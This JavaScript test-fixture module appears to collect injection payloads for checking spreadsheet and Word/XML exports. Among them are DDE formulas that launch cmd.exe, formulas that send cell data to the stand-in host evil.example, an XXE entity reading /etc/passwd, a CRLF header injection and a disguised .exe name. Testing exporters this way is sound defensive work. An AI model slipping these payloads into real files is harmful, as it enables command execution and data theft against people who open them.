/** Text that would be a formula in a table or markup in a document, beside everything that would be a program on a page. */
import { PAYLOADS } from './payloads.mjs';

const ELSEWHERE = 'https://evil.example/x';

/** OWASP "CSV Injection" and the reports named with it: also behind blanks, in a later line, and with full-width signs. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\r\n@SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b-1',
  'Zeile eins\n=1+1',
  'Zeile eins\r\n+1+1\r\n-1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  `=HYPERLINK("${ELSEWHERE}?"&A1,"Klick")`,
  `=IMPORTXML("${ELSEWHERE}";"//a")`,
  `=WEBSERVICE("${ELSEWHERE}")`,
  '";=1+1;"',
  '","=1+1","',
  '"\r\n=1+1,',
  "'=1+1",
];

/** For the writer of a document: ends of elements, entities, fields, references, and what XML cannot hold. */
const MARKUP = [
  '</w:t></w:r><w:r><w:t>fremd',
  '</w:p><w:p><w:hyperlink r:id="rId1"><w:r><w:t>Klick</w:t></w:r></w:hyperlink>',
  '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>',
  '<w:altChunk r:id="rId9"/>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  ']]>&lt;!ENTITY x&gt;&x;',
  '<![CDATA[ ]]> ]]>',
  '&amp;&#0;&#x1F;&nbsp;&unbekannt;',
  '<?xml version="1.0"?><?mso-application progid="Word.Document"?>',
  'INCLUDETEXT "c:\\\\geheim.txt"',
  `{ HYPERLINK "${ELSEWHERE}" }`,
  ['javascript', 'alert(1)'].join(':'),
  'vor\u0000\u0001\u0008\u000b\u000c\u001f\u007f\u0085\ufffe\uffffnach',
  'vor\ud800nach',
  'vor\udc00\ud800nach \ud83d',
  '\u202egnp.exe\u202c \u2066x\u2069 \u2067y\u2069',
  'שלום <b>أهلا</b> \u200f=1+1',
  '\u2028=1+1\u2029=1+1',
  '%1 %s %0d%0aSet-Cookie:x=1 $1 $& $` \\n',
];

export const EXPORT_PAYLOADS = [...FORMULAS, ...MARKUP, ...PAYLOADS];
